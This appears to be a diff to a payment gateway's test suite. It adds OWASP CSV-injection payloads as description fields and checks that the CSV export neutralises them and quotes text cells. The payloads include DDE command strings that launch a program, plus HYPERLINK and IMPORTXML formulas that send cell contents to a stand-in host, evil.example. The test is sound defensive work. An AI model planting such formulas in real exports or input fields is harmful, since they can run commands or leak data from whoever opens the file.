@@ -29,6 +29,24 @@ async function pay(name: string, number: string) {
   payments[name] = res.body.paymentId;
 }
 
+/** OWASP's CSV-injection payloads, spelled as a payer or merchant could put them in a text field. */
+const OWASP_CSV_PAYLOADS = [
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+  ' =HYPERLINK("http://evil.example")',
+  '\t=1+2',
+  '\r=1+2',
+  'a;=1+2',
+  'a,=1+2',
+  'a; @SUM(1)',
+  'a|=1+2',
+  'a\t-2+3',
+  'Ticket\n=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+];
+
 beforeAll(async () => {
   m = await gw.merchant();
   customerId = await insertCustomer(gw, m);
@@ -36,6 +54,8 @@ beforeAll(async () => {
   await request('formula', { amount: 12.34, currency: 'EUR', reference: '=HYPERLINK("x")', description: 'a, "b"\nc' });
   await request('yen', { amount: 1200, currency: 'JPY', reference: 'A-2', customerId });
   await request('large', { amount: 250, currency: 'EUR', reference: 'A-3', customerId });
+  for (const [i, payload] of OWASP_CSV_PAYLOADS.entries())
+    await request(`owasp-${i}`, { amount: 1, currency: 'GBP', reference: `owasp-${i}`, description: payload });
   await pay('small', CARDS.visa);
   await pay('large', CARDS.doNotHonor);
   // Another merchant's and the live mode's rows never show (test/security covers every list too).
@@ -138,6 +158,23 @@ describe('CSV exports', () => {
     });
     const yen = csvRecords((await get('/payment-requests/export/csv?currency=JPY')).text);
     expect(yen).toMatchObject([{ amountMinor: '1200', amount: '1200', customerId: String(customerId) }]);
+  });
+
+  it("neutralises OWASP's formula payloads in every locale's separators, and quotes every text cell", async () => {
+    const res = await get('/payment-requests/export/csv?currency=GBP');
+    const rows = csvRecords(res.text);
+    expect(rows).toHaveLength(OWASP_CSV_PAYLOADS.length);
+    for (const [i, payload] of OWASP_CSV_PAYLOADS.entries()) {
+      const cell = rows.find((r) => r.reference === `owasp-${i}`)!.description;
+      // Only apostrophes were added: the text is the payload's.
+      expect(cell.replace(/'/g, ''), payload).toBe(payload.replace(/'/g, ''));
+      // A spreadsheet splitting on , ; tab | or a line end finds no piece that starts a formula.
+      for (const piece of cell.split(/[,;\t|\r\n]/)) expect(piece.trimStart(), payload).not.toMatch(/^[=+\-@]/);
+      expect(cell, payload).not.toMatch(/^[\t\r]/);
+    }
+    // Text cells are quoted in the file itself, numbers are not.
+    const line = res.text.split('\r\n').find((l) => l.includes('"owasp-0"'));
+    expect(line).toMatch(/^\d+,"[^"]+","open","owasp-0","GBP",100,"1.00",/);
   });
 
   it('the payments export is the filtered payments list', async () => {
